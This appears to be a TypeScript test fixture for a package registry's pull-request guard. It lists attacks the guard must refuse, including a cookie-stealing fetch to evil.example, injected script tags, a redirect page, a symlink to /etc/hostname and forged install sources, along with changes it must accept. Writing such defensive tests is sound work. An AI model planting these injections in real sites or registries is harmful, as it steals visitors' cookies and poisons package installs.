import { createHash, randomBytes } from 'node:crypto';
import { cpSync, mkdirSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { applyFileChanges } from '../../src/core/fs/file-change';
import { planSiteBuild } from '../../src/core/site/build-site';
import { setDistTag, yankVersion } from '../../src/core/site/change-package';
import { planPackageChange } from '../../src/core/site/plan-package-change';
import type { VerifyOptions } from '../../src/core/site/verify-change';
import { registerPackage } from '../../src/publish/register-package';
import { initRegistry, packYaml, publish, T0 } from './site';
import { git } from './git';
import { makePack, tempDir } from './tmp';

/**
 * The registry pull requests the guard must refuse, and the ones it must accept, shared by the
 * core's, the CLI's and the bundled Action's tests so that all three answer the same cases.
 *
 * The base registry: `demo` 1.0.0 and 1.1.0 published from a folder (owner
 * github.com/acme/pack-demo, archives stored in the registry), and `slack` 1.0.0 as the Action
 * publishes it (owner github.com/acme/pack-slack, git source and archive in that repository).
 */
export const DEMO = 'packages/de/mo/demo.json';
export const SLACK = 'packages/sl/ac/slack.json';
const DEMO_REPO = 'repository: https://github.com/acme/pack-demo\n';
const LATER = new Date('2026-03-01T00:00:00Z');

export async function baseRegistry(dir?: string): Promise<string> {
  const reg = await initRegistry(dir);
  await publish(reg, 'demo', '1.0.0', { extra: DEMO_REPO });
  await publish(reg, 'demo', '1.1.0', { extra: DEMO_REPO });
  await publishSlack(reg, '1.0.0');
  return reg;
}

/** slack as `command: publish` records it: the git source and the release download in acme/pack-slack. */
function publishSlack(reg: string, version: string, owner = 'acme/pack-slack') {
  return publish(reg, 'slack', version, {
    extra: `repository: https://github.com/${owner}\n`,
    settings: {
      owner: `github.com/${owner}`,
      archiveUrlBase: `https://github.com/${owner}/releases/download/v${version}`,
      git: { url: `https://github.com/${owner}.git`, ref: 'a'.repeat(40) },
    },
  });
}

/** A copy of a registry folder: the pull request's head before its change. */
export function copyRegistry(dir: string, to = tempDir('packdex-head-')): string {
  cpSync(dir, to, { recursive: true, verbatimSymlinks: true });
  return to;
}

/** Rewrite every derived file from the documents, as `packdex site build` does. */
export async function rebuild(dir: string): Promise<void> {
  await applyFileChanges((await planSiteBuild(dir)).changes);
}

// Hand edits of JSON as a pull request would make them; the shape is whatever the file holds.
// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = any;
export function editJson(dir: string, rel: string, f: (d: Json) => void): void {
  const file = path.join(dir, rel);
  const data = JSON.parse(readFileSync(file, 'utf8'));
  f(data);
  writeFileSync(file, `${JSON.stringify(data, null, 2)}\n`);
}

/** A new version of slack written by hand: a copy of 1.0.0 with `change` applied, made latest. */
async function handWrittenSlack(head: string, version: string, change: (v: Json) => void): Promise<void> {
  editJson(head, SLACK, (d) => {
    const v = structuredClone(d.versions[0]);
    v.version = version;
    v.entry.version = version;
    change(v);
    d.versions.push(v);
    d.dist_tags.latest = version;
  });
  await rebuild(head);
}

export interface RegistryCase {
  what: string;
  /** Prepares the base before the head is copied from it (e.g. a registry.json policy). */
  base?: (base: string) => Promise<void> | void;
  change: (head: string) => Promise<void> | void;
  /** The options the workflow gives (CLI flags, Action inputs). */
  options?: VerifyOptions;
}

export interface Attack extends RegistryCase {
  code: string;
  /** The file the finding (and the annotation) is on, relative to the registry. */
  file: string;
  /** Whether the finding names a line. */
  line: boolean;
}

const withPolicy = (policy: Record<string, unknown>) => (base: string) => {
  editJson(base, 'registry.json', (d) => Object.assign(d, policy));
};

export const ATTACKS: Attack[] = [
  // §2: every file of the registry
  { what: 'a script appended to index.html', code: 'DERIVED_FILE_CHANGED', file: 'index.html', line: true, change: (h) => writeFileSync(path.join(h, 'index.html'), `${readFileSync(path.join(h, 'index.html'), 'utf8')}<script src="https://evil.example/x.js"></script>\n`) },
  { what: 'a script appended to assets/app.js', code: 'DERIVED_FILE_CHANGED', file: 'assets/app.js', line: true, change: (h) => writeFileSync(path.join(h, 'assets/app.js'), `${readFileSync(path.join(h, 'assets/app.js'), 'utf8')}fetch('https://evil.example/steal?c=' + document.cookie);\n`) },
  {
    what: 'a script appended to index.html beside a 300 MB document (the page is checked without a site build)',
    code: 'DERIVED_FILE_CHANGED',
    file: 'index.html',
    line: true,
    options: { maxChangeBytes: 1024 * 1024 * 1024 },
    change: (h) => {
      writeFileSync(path.join(h, 'index.html'), `${readFileSync(path.join(h, 'index.html'), 'utf8')}<script src="https://evil.example/x.js"></script>\n`);
      truncateSync(path.join(h, DEMO), 300 * 1024 * 1024);
    },
  },
  { what: 'a removed .nojekyll', code: 'DERIVED_FILE_CHANGED', file: '.nojekyll', line: false, change: (h) => rmSync(path.join(h, '.nojekyll')) },
  { what: 'a replaced stored archive', code: 'ARCHIVE_IMMUTABLE', file: 'archives/demo-1.0.0.tar.gz', line: false, change: (h) => writeFileSync(path.join(h, 'archives/demo-1.0.0.tar.gz'), 'not the published bytes') },
  { what: 'a deleted stored archive', code: 'ARCHIVE_IMMUTABLE', file: 'archives/demo-1.1.0.tar.gz', line: false, change: (h) => rmSync(path.join(h, 'archives/demo-1.1.0.tar.gz')) },
  {
    what: "registry.json's url moved (index.json rebuilt to match)",
    code: 'REGISTRY_IDENTITY_CHANGED',
    file: 'registry.json',
    line: true,
    change: async (h) => {
      editJson(h, 'registry.json', (d) => (d.url = 'https://evil.example'));
      await rebuild(h);
    },
  },
  { what: "registry.json's name changed", code: 'REGISTRY_IDENTITY_CHANGED', file: 'registry.json', line: true, change: async (h) => (editJson(h, 'registry.json', (d) => (d.name = 'Not yours')), await rebuild(h)) },
  { what: 'a 300 MB package document', code: 'DOCUMENT_TOO_LARGE', file: DEMO, line: false, change: (h) => truncateSync(path.join(h, DEMO), 300 * 1024 * 1024) },
  {
    what: 'a new 300 MB package document under a raised change limit',
    code: 'DOCUMENT_TOO_LARGE',
    file: 'packages/bi/gg/bigger.json',
    line: false,
    options: { maxChangeBytes: 1024 * 1024 * 1024 },
    change: (h) => {
      mkdirSync(path.join(h, 'packages/bi/gg'), { recursive: true });
      writeFileSync(path.join(h, 'packages/bi/gg/bigger.json'), '');
      truncateSync(path.join(h, 'packages/bi/gg/bigger.json'), 300 * 1024 * 1024);
    },
  },
  {
    what: 'a change over max-change-bytes (annotated on its largest file)',
    code: 'CHANGE_TOO_LARGE',
    file: 'archives/demo-1.2.0.tar.gz',
    line: false,
    options: { maxChangeBytes: 1000 },
    change: async (h) => {
      const r = await publish(h, 'demo', '1.2.0', { extra: DEMO_REPO, files: { 'data.txt': randomBytes(16 * 1024).toString('base64') } });
      if (r.archive!.size < 8000) throw new Error(`the archive is only ${r.archive!.size} bytes`);
    },
  },
  { what: "a change against a base whose registry.json cannot be read", code: 'REGISTRY_INVALID', file: 'registry.json', line: false, base: (b) => editJson(b, 'registry.json', (d) => (d.format_version = 99)), change: (h) => editJson(h, 'registry.json', (d) => (d.format_version = 1)) },
  { what: 'a new file at the root', code: 'UNEXPECTED_FILE', file: 'evil.js', line: false, change: (h) => writeFileSync(path.join(h, 'evil.js'), 'alert(1)\n') },
  { what: 'a page among the package documents', code: 'UNEXPECTED_FILE', file: 'packages/de/mo/demo.html', line: false, change: (h) => writeFileSync(path.join(h, 'packages/de/mo/demo.html'), '<script>alert(1)</script>\n') },
  { what: 'a file in archives/ that no version installs from', code: 'UNEXPECTED_FILE', file: 'archives/payload.tar.gz', line: false, change: (h) => writeFileSync(path.join(h, 'archives/payload.tar.gz'), 'payload') },
  { what: "a CNAME registry.json's extra_files does not list", code: 'UNEXPECTED_FILE', file: 'CNAME', line: false, change: (h) => writeFileSync(path.join(h, 'CNAME'), 'evil.example\n') },
  {
    what: 'extra_files widened by the pull request itself',
    code: 'REGISTRY_IDENTITY_CHANGED',
    file: 'registry.json',
    line: true,
    change: (h) => {
      editJson(h, 'registry.json', (d) => (d.extra_files = ['evil.js']));
      writeFileSync(path.join(h, 'evil.js'), 'alert(1)\n');
    },
  },
  { what: 'a symbolic link', code: 'PATH_SYMLINK', file: 'packages/de/mo/link.json', line: false, change: (h) => symlinkSync('/etc/hostname', path.join(h, 'packages/de/mo/link.json')) },
  {
    what: "a new version's stored archive with other bytes than it records",
    code: 'ARCHIVE_MISMATCH',
    file: 'archives/demo-1.2.0.tar.gz',
    line: false,
    change: async (h) => {
      const r = await publish(h, 'demo', '1.2.0', { extra: DEMO_REPO });
      writeFileSync(r.archive!.path, Buffer.alloc(r.archive!.size, 7));
    },
  },
  {
    what: 'a new version whose stored archive is missing',
    code: 'ARCHIVE_MISSING',
    file: DEMO,
    line: true,
    change: async (h) => rmSync((await publish(h, 'demo', '1.2.0', { extra: DEMO_REPO })).archive!.path),
  },
  // §3: a new version of an owned name comes from its owner
  {
    what: 'slack 9.9.9 from github.com/evil/x with its archive on evil.example, made latest',
    code: 'SOURCE_NOT_OWNED',
    file: SLACK,
    line: true,
    change: (h) =>
      handWrittenSlack(h, '9.9.9', (v) => {
        v.entry.repository = 'https://github.com/evil/x';
        v.entry.install_sources = [{ type: 'archive', url: 'https://evil.example/slack-9.9.9.tar.gz', checksum: `sha256:${'e'.repeat(64)}` }];
      }),
  },
  {
    what: 'a new version whose git source is another repository',
    code: 'SOURCE_NOT_OWNED',
    file: SLACK,
    line: true,
    change: (h) => handWrittenSlack(h, '1.1.0', (v) => (v.entry.install_sources[0].url = 'https://github.com/evil/pack-slack.git')),
  },
  {
    what: "a new version whose archive is another repository's release with the owner's name in its path",
    code: 'SOURCE_NOT_OWNED',
    file: SLACK,
    line: true,
    change: (h) => handWrittenSlack(h, '1.1.0', (v) => (v.entry.install_sources[1].url = 'https://github.com/evil/x/releases/download/github.com/acme/pack-slack/releases/download/slack.tar.gz')),
  },
  {
    what: "a new version whose archive is on another host under the owner's path",
    code: 'SOURCE_NOT_OWNED',
    file: SLACK,
    line: true,
    change: (h) => handWrittenSlack(h, '1.1.0', (v) => (v.entry.install_sources[1].url = 'https://evil.example/acme/pack-slack/releases/download/v1.1.0/slack-1.1.0.tar.gz')),
  },
  {
    what: 'a new version of a folder-published name whose archive is outside the registry',
    code: 'SOURCE_NOT_OWNED',
    file: DEMO,
    line: true,
    change: async (h) => {
      await publish(h, 'demo', '1.2.0', { extra: DEMO_REPO, settings: { archiveUrlBase: 'https://evil.example/archives' } });
    },
  },
  {
    what: "a new version that installs from another package's stored archive",
    code: 'SOURCE_NOT_OWNED',
    file: SLACK,
    line: true,
    change: (h) =>
      handWrittenSlack(h, '1.1.0', (v) => {
        const demo = JSON.parse(readFileSync(path.join(h, DEMO), 'utf8')).versions[0];
        v.entry.install_sources = [demo.entry.install_sources.find((s: Json) => s.type === 'archive')];
        v.archive_size = demo.archive_size;
      }),
  },
  {
    what: 'a new package whose stored archive is a page of the registry\'s site (archives/x.html, with its true checksum)',
    code: 'ARCHIVE_MISMATCH',
    file: 'packages/ot/he/other.json',
    line: true,
    change: async (h) => {
      const r = await publish(h, 'other', '0.1.0');
      const page = '<script>location = "https://evil.example"</script>\n';
      writeFileSync(path.join(h, 'archives/x.html'), page);
      rmSync(r.archive!.path);
      editJson(h, 'packages/ot/he/other.json', (d) => {
        const source = d.versions[0].entry.install_sources.find((s: Json) => s.type === 'archive');
        source.url = 'https://packs.example.com/archives/x.html';
        source.checksum = `sha256:${createHash('sha256').update(page).digest('hex')}`;
        d.versions[0].archive_size = Buffer.byteLength(page);
      });
      await rebuild(h);
    },
  },
  { what: 'a changed owner', code: 'NAME_OWNED', file: SLACK, line: true, change: (h) => editJson(h, SLACK, (d) => (d.owner = 'github.com/evil/x')) },
  { what: 'maintainers added by the pull request', code: 'NAME_OWNED', file: DEMO, line: true, change: (h) => editJson(h, DEMO, (d) => (d.maintainers = ['mallory'])) },
  {
    what: "a new version by an author who is neither a publisher nor the package's maintainer",
    code: 'AUTHOR_NOT_ALLOWED',
    file: DEMO,
    line: true,
    base: withPolicy({ publishers: ['acme-publisher[bot]'] }),
    options: { author: 'mallory' },
    change: async (h) => void (await publish(h, 'demo', '1.2.0', { extra: DEMO_REPO })),
  },
  {
    what: 'a new package by an author who is not a publisher',
    code: 'AUTHOR_NOT_ALLOWED',
    file: 'packages/ot/he/other.json',
    line: true,
    base: withPolicy({ publishers: ['acme-publisher[bot]'] }),
    options: { author: 'mallory' },
    change: async (h) => void (await publish(h, 'other', '0.1.0')),
  },
  { what: 'an altered published entry', code: 'VERSION_IMMUTABLE', file: DEMO, line: true, change: (h) => editJson(h, DEMO, (d) => (d.versions[0].entry.description = 'rewritten history')) },
  { what: 'a removed package', code: 'VERSION_IMMUTABLE', file: DEMO, line: false, change: async (h) => (rmSync(path.join(h, DEMO)), await rebuild(h)) },
];

/** Changes packdex itself makes (and the explicit allows), which the guard must let through. */
export const ACCEPTED: RegistryCase[] = [
  {
    what: 'a folder publish of a new version, a new package, a yank and a dist-tag',
    change: async (h) => {
      await publish(h, 'demo', '1.2.0', { extra: DEMO_REPO });
      await publish(h, 'other', '0.1.0');
      await applyFileChanges((await planPackageChange(h, 'demo', (d) => yankVersion(d!, '1.0.0', { reason: 'bug' }, LATER))).changes);
      await applyFileChanges((await planPackageChange(h, 'demo', (d) => setDistTag(d!, 'stable', '1.1.0', LATER))).changes);
    },
  },
  { what: "a new version as command: publish records it (git source and release download in the owner's repository)", change: async (h) => void (await publishSlack(h, '1.1.0')) },
  {
    what: 'register from a local path, a new version of an owned name',
    change: async (h) => {
      const packDir = makePack({ 'pack.yaml': packYaml('demo', '1.3.0', DEMO_REPO) });
      await registerPackage({ source: { kind: 'local_path', path: packDir }, registryDir: h, audit: true, allowHttp: false, now: T0 });
    },
  },
  (() => {
    // One pack repository, tagged twice: the base registers v1.0.0 from its URL, the change v1.1.0.
    let url: string | undefined;
    const repository = () => {
      if (url !== undefined) return url;
      const dir = makePack({ 'pack.yaml': packYaml('fromgit', '1.0.0') });
      git(dir, 'init', '-q', '-b', 'main');
      git(dir, 'add', '-A');
      git(dir, 'commit', '-qm', '1.0.0');
      git(dir, 'tag', 'v1.0.0');
      writeFileSync(path.join(dir, 'pack.yaml'), packYaml('fromgit', '1.1.0'));
      git(dir, 'commit', '-qam', '1.1.0');
      git(dir, 'tag', 'v1.1.0');
      return (url = `file://${dir}`);
    };
    const register = (registryDir: string, ref: string) => registerPackage({ source: { kind: 'repo_url', url: repository(), ref }, registryDir, audit: true, allowHttp: false, now: T0 });
    return { what: 'register from a repository URL, a new version of the name it registered before', base: async (b: string) => void (await register(b, 'v1.0.0')), change: async (h: string) => void (await register(h, 'v1.1.0')) };
  })(),
  { what: "a CNAME that registry.json's extra_files lists", base: withPolicy({ extra_files: ['CNAME', '.github/**'] }), change: (h) => (writeFileSync(path.join(h, 'CNAME'), 'packs.example.com\n'), mkdirSync(path.join(h, '.github/workflows'), { recursive: true }), writeFileSync(path.join(h, '.github/workflows/verify.yml'), 'on: pull_request_target\n')) },
  { what: 'a description change in registry.json', change: (h) => editJson(h, 'registry.json', (d) => (d.description = 'Our packs')) },
  { what: 'a renamed registry, with allow-identity-change', options: { allowIdentityChange: true }, change: async (h) => (editJson(h, 'registry.json', (d) => (d.name = 'Renamed')), await rebuild(h)) },
  {
    what: 'an owner transfer and a version from the new owner, with allow-owner-transfer',
    options: { allowOwnerTransfer: true },
    change: async (h) => {
      editJson(h, SLACK, (d) => (d.owner = 'github.com/newco/pack-slack'));
      await publishSlack(h, '1.1.0', 'newco/pack-slack');
    },
  },
  { what: 'a new version opened by a publisher', base: withPolicy({ publishers: ['acme-publisher[bot]'] }), options: { author: 'Acme-Publisher[bot]' }, change: async (h) => void (await publish(h, 'demo', '1.2.0', { extra: DEMO_REPO })) },
  {
    what: "a new version opened by the package's maintainer",
    base: (b) => (withPolicy({ publishers: ['acme-publisher[bot]'] })(b), editJson(b, DEMO, (d) => (d.maintainers = ['alice']))),
    options: { author: 'alice' },
    change: async (h) => void (await publish(h, 'demo', '1.2.0', { extra: DEMO_REPO })),
  },
  { what: 'no change at all', change: () => undefined },
];

/** A base registry prepared for `c`, and its head after `c`'s change. */
export async function prepareCase(c: RegistryCase, dirs: { base?: string; head?: string } = {}): Promise<{ base: string; head: string }> {
  const base = await baseRegistry(dirs.base);
  await c.base?.(base);
  const head = copyRegistry(base, dirs.head);
  await c.change(head);
  return { base, head };
}

/** The CLI flags that give `options`. */
export function verifyFlags(options: VerifyOptions = {}): string[] {
  return [
    ...(options.author === undefined ? [] : ['--author', options.author]),
    ...(options.allowIdentityChange === true ? ['--allow-identity-change'] : []),
    ...(options.allowOwnerTransfer === true ? ['--allow-owner-transfer'] : []),
    ...(options.maxChangeBytes === undefined ? [] : ['--max-change-bytes', String(options.maxChangeBytes)]),
  ];
}
